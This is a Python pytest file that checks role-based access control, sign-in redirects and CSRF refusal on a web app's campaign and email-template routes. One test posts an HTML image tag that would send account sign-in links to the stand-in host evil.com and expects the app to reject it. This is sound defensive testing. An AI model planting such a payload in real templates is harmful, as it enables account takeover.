"""Only platform managers (and admins) configure campaigns, templates and automatic emails:
evaluators and candidates get 403 on every page and endpoint; anonymous users sign in first."""

import pytest
import sqlalchemy as sa

from tests import factories
from webapp import outbox
from webapp.extensions import db as _db
from webapp.models import Campaign, EmailTemplate, EmailTemplateVersion, Reminder, Trigger
from webapp.models.outbox import OutboxMessage

ROUTES = [
    ("GET", "/campaigns/"),
    ("GET", "/campaigns/new"),
    ("POST", "/campaigns/new"),
    ("GET", "/campaigns/{campaign}"),
    ("GET", "/campaigns/{campaign}/edit"),
    ("POST", "/campaigns/{campaign}/edit"),
    ("POST", "/campaigns/{campaign}/duplicate"),
    ("POST", "/campaigns/{campaign}/publish"),
    ("POST", "/campaigns/{campaign}/unpublish"),
    ("GET", "/campaigns/{campaign}/emails"),
    ("GET", "/campaigns/{campaign}/emails/history"),
    ("GET", "/campaigns/{campaign}/emails/submitted"),
    ("GET", "/campaigns/{campaign}/emails/submitted/new"),
    ("POST", "/campaigns/{campaign}/emails/status_changed/new"),
    ("GET", "/campaigns/{campaign}/triggers/{trigger}/edit"),
    ("POST", "/campaigns/{campaign}/triggers/{trigger}/edit"),
    ("POST", "/campaigns/{campaign}/triggers/{trigger}/toggle"),
    ("GET", "/campaigns/{campaign}/triggers/{trigger}/delete"),
    ("POST", "/campaigns/{campaign}/triggers/{trigger}/delete"),
    ("GET", "/campaigns/{campaign}/emails/reminders"),
    ("GET", "/campaigns/{campaign}/emails/reminders/new"),
    ("POST", "/campaigns/{campaign}/emails/reminders/new"),
    ("GET", "/campaigns/{campaign}/reminders/{reminder}/edit"),
    ("POST", "/campaigns/{campaign}/reminders/{reminder}/edit"),
    ("POST", "/campaigns/{campaign}/reminders/{reminder}/toggle"),
    ("GET", "/campaigns/{campaign}/reminders/{reminder}/delete"),
    ("POST", "/campaigns/{campaign}/reminders/{reminder}/delete"),
    ("GET", "/campaigns/{campaign}/emails/held"),
    ("POST", "/campaigns/{campaign}/held/{trigger}/0/release"),
    ("POST", "/campaigns/{campaign}/held/{trigger}/0/cancel"),
    ("GET", "/email-templates/"),
    ("GET", "/email-templates/new"),
    ("POST", "/email-templates/new"),
    ("GET", "/email-templates/{template}"),
    ("POST", "/email-templates/{template}"),
    ("POST", "/email-templates/{template}/duplicate"),
    ("GET", "/email-templates/{template}/delete"),
    ("POST", "/email-templates/{template}/delete"),
    ("POST", "/email-templates/preview"),
    ("POST", "/email-templates/send-test"),
]


@pytest.fixture
def objects(app, users):
    with app.app_context():
        campaign = factories.make_campaign()
        template = factories.make_template(name="Unused template")
        used = factories.make_template(name="Used template")
        trigger = factories.make_trigger(campaign, used)
        reminder = Reminder(campaign=campaign, kind="before_closing", template=used,
                            offset_amount=3)
        _db.session.add(reminder)
        _db.session.flush()
        _db.session.add(OutboxMessage(**outbox.message_values(
            key="held-1", to_addr="someone@example.org", subject="s", body_html="<p>b</p>",
            body_text="b", campaign_id=campaign.id, template_id=used.id, held=True)))
        _db.session.commit()
        return {"campaign": campaign.id, "template": template.id, "trigger": trigger.id,
                "reminder": reminder.id, "used": used.id}


# The platform's account emails (confirmation, reset, invitation) carry links that sign their
# reader in: a manager who could edit them could take over any account. Admins only.
ACCOUNT_TEMPLATE_ROUTES = [
    ("GET", "/email-templates/{system}", None),
    ("POST", "/email-templates/{system}", None),
    ("POST", "/email-templates/{system}/duplicate", None),
    ("GET", "/email-templates/{system}/delete", None),
    ("POST", "/email-templates/{system}/delete", None),
    ("POST", "/email-templates/preview", "{system}"),
    ("POST", "/email-templates/send-test", "{system}"),
]


@pytest.fixture
def system_templates(app, users):
    from webapp.services import account_emails

    with app.app_context():
        found = [t.id for t in account_emails.ensure_system_templates().values()]
        _db.session.commit()
        return found


def _account_template_state(app):
    with app.app_context():
        return (
            _db.session.execute(sa.select(EmailTemplate.id, EmailTemplate.name,
                                          EmailTemplate.updated_at)).all(),
            _db.session.execute(sa.select(EmailTemplateVersion.id, EmailTemplateVersion.subject,
                                          EmailTemplateVersion.body_html)).all(),
            _db.session.execute(sa.select(OutboxMessage.id)).all(),
        )


@pytest.mark.parametrize("method,path,posted", ACCOUNT_TEMPLATE_ROUTES)
def test_managers_get_403_on_account_emails_and_change_nothing(app, client, auth,
                                                              system_templates, method, path,
                                                              posted):
    auth.login_as("manager")
    for system in system_templates:
        before = _account_template_state(app)
        data = None
        if method == "POST":
            data = {**_data(), "subject_fr": "Reset",
                    "body_html_fr": '<img src="https://evil.example/?{{ action_url }}">',
                    "template_id": posted.format(system=system) if posted else str(system)}
        url = path.format(system=system)
        assert client.open(url, method=method, data=data).status_code == 403
        htmx = client.open(url, method=method, data=data, headers={"HX-Request": "true"})
        assert htmx.status_code == 403 and b"<html" not in htmx.data
        assert _account_template_state(app) == before


def test_managers_see_account_emails_listed_without_a_way_to_edit_them(client, auth,
                                                                      system_templates):
    auth.login_as("manager")
    page = client.get("/email-templates/").get_data(as_text=True)
    assert "Account: reset the password" in page
    for system in system_templates:
        assert f'href="/email-templates/{system}"' not in page
    auth.logout()
    auth.login_as("admin")
    page = client.get("/email-templates/").get_data(as_text=True)
    for system in system_templates:
        assert f'href="/email-templates/{system}"' in page
        assert client.get(f"/email-templates/{system}").status_code == 200


def _state(app):
    """Everything these routes could change."""
    with app.app_context():
        return (
            _db.session.execute(sa.select(Campaign.id, Campaign.label)).all(),
            _db.session.execute(sa.select(EmailTemplate.id, EmailTemplate.name)).all(),
            _db.session.execute(sa.select(Trigger.id, Trigger.active)).all(),
            _db.session.execute(sa.select(Reminder.id, Reminder.active)).all(),
            _db.session.execute(sa.select(OutboxMessage.id, OutboxMessage.state)).all(),
        )


def _data():
    return {"label": "x", "name": "x", "template_id": "1", "to_candidate": "y", "expected": "1",
            "kind": "before_closing", "offset_amount": "2",
            "subject_fr": "s", "body_html_fr": "<p>b</p>", "default_locale": "fr",
            "opens_at": "2027-01-01T09:00", "closes_at": "2027-02-01T09:00"}


@pytest.mark.parametrize("role", ["evaluator", "candidate"])
@pytest.mark.parametrize("method,path", ROUTES)
def test_evaluators_and_candidates_get_403_and_change_nothing(app, client, auth, objects, role,
                                                             method, path):
    auth.login_as(role)
    before = _state(app)
    url = path.format(**objects)
    response = client.open(url, method=method, data=_data() if method == "POST" else None)
    assert response.status_code == 403
    htmx = client.open(url, method=method, headers={"HX-Request": "true"},
                       data=_data() if method == "POST" else None)
    assert htmx.status_code == 403 and b"<html" not in htmx.data
    assert _state(app) == before


@pytest.mark.parametrize("method,path", ROUTES)
def test_anonymous_users_are_sent_to_sign_in(app, client, objects, method, path):
    before = _state(app)
    response = client.open(path.format(**objects), method=method)
    assert response.status_code == 302
    assert response.headers["Location"].startswith("/auth/login")
    assert _state(app) == before


@pytest.mark.parametrize("role", ["manager", "admin"])
@pytest.mark.parametrize("path", [p for m, p in ROUTES if m == "GET"])
def test_managers_and_admins_see_every_page(app, client, auth, objects, role, path):
    auth.login_as(role)
    assert client.get(path.format(**objects)).status_code in (200, 303)


@pytest.mark.parametrize("role,visible", [("manager", True), ("admin", True),
                                          ("evaluator", False), ("candidate", False)])
def test_the_menu_shows_campaigns_and_templates_to_platform_managers_only(client, auth, role,
                                                                         visible):
    auth.login_as(role)
    page = client.get("/my/applications").get_data(as_text=True)
    assert ('href="/campaigns/"' in page) is visible
    assert ('href="/email-templates/"' in page) is visible


def test_a_post_without_the_csrf_token_is_refused(make_app, users, objects):
    app = make_app(WTF_CSRF_ENABLED=True)
    client = app.test_client()
    with client.session_transaction() as session:
        session["_user_id"] = str(users["manager"])
        session["_fresh"] = True
    before = _state(app)
    url = f"/campaigns/{objects['campaign']}/triggers/{objects['trigger']}/toggle"
    assert client.post(url).status_code == 400
    assert client.post(f"/email-templates/{objects['template']}/delete").status_code == 400
    assert _state(app) == before
